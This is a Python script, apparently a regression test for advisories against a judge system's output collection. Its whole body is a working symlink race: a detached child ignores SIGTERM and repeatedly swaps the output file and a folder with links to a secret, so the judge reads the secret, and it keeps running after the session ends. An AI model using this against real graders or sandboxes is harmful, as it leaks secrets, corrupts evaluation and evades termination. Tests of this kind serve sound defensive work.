"""Exchanges an output for a link to a secret thousands of times, and leaves a process that goes on when everything has ended.

From: whoever checks a path and then opens it; three advisories of one judge system.
"""

import os
import signal
import time

from evidence import TARGETS, done, say, syscall

os.chdir("/forge/outputs")
with open("result.txt", "w") as file:
    file.write("honest")
os.symlink(TARGETS["readable"], "link")
os.mkdir("folder")
os.symlink(os.path.dirname(TARGETS["readable"]), "folder.link")
with open("folder/readable.txt", "w") as file:
    file.write("honest")
reading, writing = os.pipe()
if os.fork() == 0:
    os.setsid()
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    end = time.monotonic() + 30
    count = 0
    while time.monotonic() < end:
        syscall("renameat2", -100, b"result.txt", -100, b"link", 2)
        syscall("renameat2", -100, b"folder", -100, b"folder.link", 2)
        count += 1
        if count == 1000:
            os.write(writing, b"x")
    os._exit(0)
os.read(reading, 1)
say(swapped=1000)
done()
